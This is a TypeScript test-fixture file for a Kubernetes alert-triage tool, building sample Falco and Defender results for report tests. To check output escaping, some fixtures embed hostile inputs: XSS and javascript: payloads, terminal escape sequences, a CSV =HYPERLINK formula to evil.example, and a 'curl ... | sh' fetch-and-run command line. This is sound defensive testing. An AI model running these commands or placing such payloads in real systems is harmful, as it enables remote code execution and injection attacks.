import type { AlertAction, Severity } from '../../src/alerts/model.js';
import type { Node, Pod } from '../../src/cluster/model.js';
import type { Cause, ContextLevel, Evidence, Label, TriageResult } from '../../src/triage/model.js';
import { SummaryBuilder, type SummaryOptions, type Summary } from '../../src/report/summary.js';

/** Hand-made TriageResults for report tests: only what the reports read is filled in. */
export interface ResultSpec {
  id?: string;
  vendor?: string;
  file?: string;
  record?: number;
  time?: string | null;
  title?: string;
  severity?: Severity;
  action?: AlertAction;
  host?: string;
  commandLine?: string;
  processName?: string;
  containerId?: string;
  cluster?: string;
  node?: string;
  namespace?: string;
  pod?: string;
  container?: string;
  workload?: { kind: string; name: string };
  label?: Label;
  cause?: Cause;
  confidence?: number;
  context?: ContextLevel;
  reasons?: Partial<Evidence>[];
  raw?: Record<string, unknown>;
}

function pod(namespace: string, name: string, node: string | undefined, container: string): Pod {
  return {
    kind: 'Pod',
    metadata: { name, namespace, uid: `uid-${namespace}-${name}` },
    spec: { nodeName: node, containers: [{ name: container }] },
  };
}

function node(name: string): Node {
  return { kind: 'Node', metadata: { name } };
}

export function makeResult(spec: ResultSpec = {}): TriageResult {
  const vendor = spec.vendor ?? 'falco';
  const file = spec.file ?? 'alerts/falco.ndjson';
  const record = spec.record ?? 1;
  const label = spec.label ?? 'genuine';
  const direction = label === 'genuine' ? 'malicious' : 'benign';
  const p = spec.pod && spec.namespace ? pod(spec.namespace, spec.pod, spec.node, spec.container ?? 'main') : undefined;
  const reasons: Evidence[] = (spec.reasons ?? [{}]).map((r) => ({
    rule: r.rule ?? (label === 'genuine' ? 'attack-indicators' : 'node-networking'),
    direction: r.direction ?? direction,
    strength: r.strength ?? 'strong',
    message: r.message ?? (label === 'genuine' ? 'The process matches an attack indicator.' : 'A known node component explains this.'),
    ...(r.cause ? { cause: r.cause } : {}),
  }));
  return {
    alert: {
      id: spec.id ?? `${file}:${record}`,
      source: { file, record, vendor },
      time: spec.time === undefined ? '2026-11-20T09:00:00.000Z' : spec.time,
      title: spec.title ?? 'Suspicious process',
      severity: spec.severity ?? 'medium',
      tactics: [],
      techniques: [],
      action: spec.action ?? 'detected',
      host: { name: spec.host ?? spec.node, ips: [] },
      container: {
        ...(spec.containerId ? { id: spec.containerId } : {}),
        ...(spec.pod ? { pod: spec.pod } : {}),
        ...(spec.namespace ? { namespace: spec.namespace } : {}),
      },
      process: {
        ancestors: [],
        ...(spec.commandLine ? { commandLine: spec.commandLine } : {}),
        ...(spec.processName ? { name: spec.processName } : {}),
      },
      raw: spec.raw ?? {},
    },
    correlation: {
      ...(spec.cluster ? { cluster: spec.cluster } : {}),
      subject: {
        ...(spec.node ? { node: node(spec.node) } : {}),
        ...(p ? { pod: p, container: { pod: p, spec: p.spec.containers[0], type: 'container' as const } } : {}),
        ...(spec.workload && spec.namespace ? { workload: { kind: spec.workload.kind, namespace: spec.namespace, name: spec.workload.name } } : {}),
        via: [],
      },
      notes: [],
    },
    verdict: {
      label,
      confidence: spec.confidence ?? (label === 'genuine' ? 0.9 : 0.85),
      context: spec.context ?? (p ? 'full' : spec.node ? 'partial' : 'none'),
      cause: spec.cause ?? (label === 'genuine' ? 'attack' : 'node-networking'),
      reasons,
    },
  };
}

/** Payloads every format must render inert. */
export const XSS_COMMAND = `sh -c "echo <script>window.__pwned=1</script><img src=x onerror=\\"window.__pwned=2\\"> | **bold** [x](javascript:alert(1)) @admins #1"`;
export const TERMINAL_TITLE = 'Reverse shell \x1b[31mred\x1b[0m \x1b]0;owned\x07 \u202eevil\u202c\nsecond line';

const CSV_COLUMNS = (time: string, id: string, title: string, device: string, cmd: string) => ({
  Timestamp: time,
  AlertId: id,
  Title: title,
  DeviceName: device,
  ProcessCommandLine: cmd,
});

const CLUSTER = 'shop-prod';
const NODE_A = 'ip-10-0-12-34.internal';
const NODE_B = 'ip-10-0-52-201.internal';

/** A small, fixed run that touches every part of the reports (two files, both labels, all sections, payloads). */
export function sampleResults(): TriageResult[] {
  const defender = { vendor: 'defender', file: 'alerts/defender.csv' };
  return [
    makeResult({
      ...defender,
      record: 1,
      id: 'da001',
      time: '2026-11-20T08:02:00.000Z',
      title: 'Suspicious iptables modification',
      severity: 'low',
      cluster: CLUSTER,
      node: NODE_A,
      namespace: 'kube-system',
      pod: 'calico-node-x7k2p',
      container: 'calico-node',
      workload: { kind: 'DaemonSet', name: 'calico-node' },
      commandLine: 'iptables-restore --noflush --wait 10',
      label: 'likely-false-positive',
      cause: 'node-networking',
      reasons: [{ rule: 'node-networking', message: 'iptables-restore is run by container calico-node of DaemonSet kube-system/calico-node on this node.', cause: 'node-networking' }],
      raw: CSV_COLUMNS('2026-11-20T08:02:00Z', 'da001', 'Suspicious iptables modification', NODE_A, 'iptables-restore --noflush --wait 10'),
    }),
    makeResult({
      ...defender,
      record: 2,
      id: 'da002',
      time: '2026-11-20T08:40:00.000Z',
      title: 'Process killed',
      severity: 'high',
      action: 'killed',
      cluster: CLUSTER,
      node: NODE_B,
      namespace: 'shop',
      pod: 'payments-7d4b9c6f58-rk9vz',
      container: 'gateway',
      workload: { kind: 'Deployment', name: 'payments' },
      commandLine: '/app/gateway --listen :8443',
      label: 'likely-false-positive',
      cause: 'ping-pong',
      reasons: [
        { rule: 'ping-pong', message: 'payments-7d4b9c6f58-rk9vz restarted 44 times, last terminated with exit 137.', cause: 'ping-pong' },
        { rule: 'attack-indicators', direction: 'malicious', strength: 'weak', message: 'Listening on a high port.' },
      ],
      raw: CSV_COLUMNS('2026-11-20T08:40:00Z', 'da002', 'Process killed', NODE_B, '/app/gateway --listen :8443'),
    }),
    makeResult({
      ...defender,
      record: 3,
      id: 'da003',
      time: '2026-11-20T09:10:00.000Z',
      title: 'Process killed',
      severity: 'high',
      action: 'killed',
      cluster: CLUSTER,
      node: NODE_A,
      namespace: 'shop',
      pod: 'payments-7d4b9c6f58-m2x8q',
      container: 'gateway',
      workload: { kind: 'Deployment', name: 'payments' },
      commandLine: '/app/gateway --listen :8443',
      label: 'likely-false-positive',
      cause: 'ping-pong',
      reasons: [{ rule: 'ping-pong', message: 'payments-7d4b9c6f58-m2x8q restarted 12 times, last terminated with exit 137.', cause: 'ping-pong' }],
      raw: CSV_COLUMNS('2026-11-20T09:10:00Z', 'da003', 'Process killed', NODE_A, '/app/gateway --listen :8443'),
    }),
    makeResult({
      ...defender,
      record: 4,
      id: 'da004',
      time: '2026-11-20T10:05:00.000Z',
      title: TERMINAL_TITLE,
      severity: 'critical',
      cluster: CLUSTER,
      node: NODE_B,
      namespace: 'shop',
      pod: 'web-5c8d7f9b6-abcde',
      container: 'nginx',
      workload: { kind: 'Deployment', name: 'web' },
      commandLine: XSS_COMMAND,
      label: 'genuine',
      cause: 'attack',
      confidence: 0.95,
      reasons: [
        { rule: 'attack-indicators', message: 'The command line opens a reverse shell to 203.0.113.7:4444 <b>from</b> pod shop/web-5c8d7f9b6-abcde.' },
        { rule: 'workload-baseline', direction: 'benign', strength: 'weak', message: 'nginx runs sh in its entrypoint | sometimes.', cause: 'workload-baseline' },
      ],
      raw: CSV_COLUMNS('2026-11-20T10:05:00Z', 'da004', '=HYPERLINK("http://evil.example/x","click")', NODE_B, XSS_COMMAND),
    }),
    makeResult({
      vendor: 'falco',
      file: 'alerts/falco.ndjson',
      record: 1,
      time: '2026-11-20T11:50:30.000Z',
      title: 'Terminal shell in container',
      severity: 'medium',
      cluster: CLUSTER,
      node: NODE_A,
      namespace: 'shop',
      pod: 'checkout-7f9c6d8b54-q2lmx',
      container: 'api',
      workload: { kind: 'Deployment', name: 'checkout' },
      commandLine: 'sh -c jcmd 1 GC.heap_info',
      label: 'likely-false-positive',
      cause: 'admin-activity',
      reasons: [{ rule: 'admin-activity', message: 'alice@example.com had a kubectl exec session in shop/checkout-7f9c6d8b54-q2lmx from 11:50:02 to 11:53:41.', cause: 'admin-activity' }],
      raw: { time: '2026-11-20T11:50:30Z', rule: 'Terminal shell in container', priority: 'Notice', output_fields: { 'proc.cmdline': 'sh -c jcmd 1 GC.heap_info' }, tags: ['shell', 'mitre_execution'] },
    }),
    makeResult({
      vendor: 'falco',
      file: 'alerts/falco.ndjson',
      record: 2,
      time: null,
      title: 'Outbound connection to `pastebin`',
      severity: 'unknown',
      host: 'ip-10-0-3-15',
      commandLine: 'curl -s https://pastebin.example/raw/abc | sh',
      label: 'genuine',
      cause: 'unexplained',
      confidence: 0.4,
      context: 'none',
      reasons: [{ rule: 'context', direction: 'malicious', strength: 'weak', message: 'Host ip-10-0-3-15 is not a node of any known cluster; nothing in the cluster explains this alert.' }],
      raw: { time: null, rule: 'Outbound connection', priority: 'Warning', hostname: 'ip-10-0-3-15', extra: 'not in the first file' },
    }),
  ];
}

export function sampleSummary(results: TriageResult[] = sampleResults(), options: SummaryOptions = {}): Summary {
  const builder = new SummaryBuilder(options);
  builder.file('alerts/defender.csv', 'defender', 4);
  builder.file('alerts/falco.ndjson', 'falco', 3);
  builder.snapshot(CLUSTER, '2026-11-20T12:05:00.000Z');
  builder.gap('pods/log: forbidden (403) in shop-prod');
  for (const result of results) builder.add(result);
  builder.rejected();
  builder.warning('alerts/falco.ndjson line 3: not JSON (Unexpected token)', 'bad-record');
  builder.warning('policy exception "legacy-log-shipper" expired on 2026-11-01', 'policy-exception-expired');
  return builder.build();
}
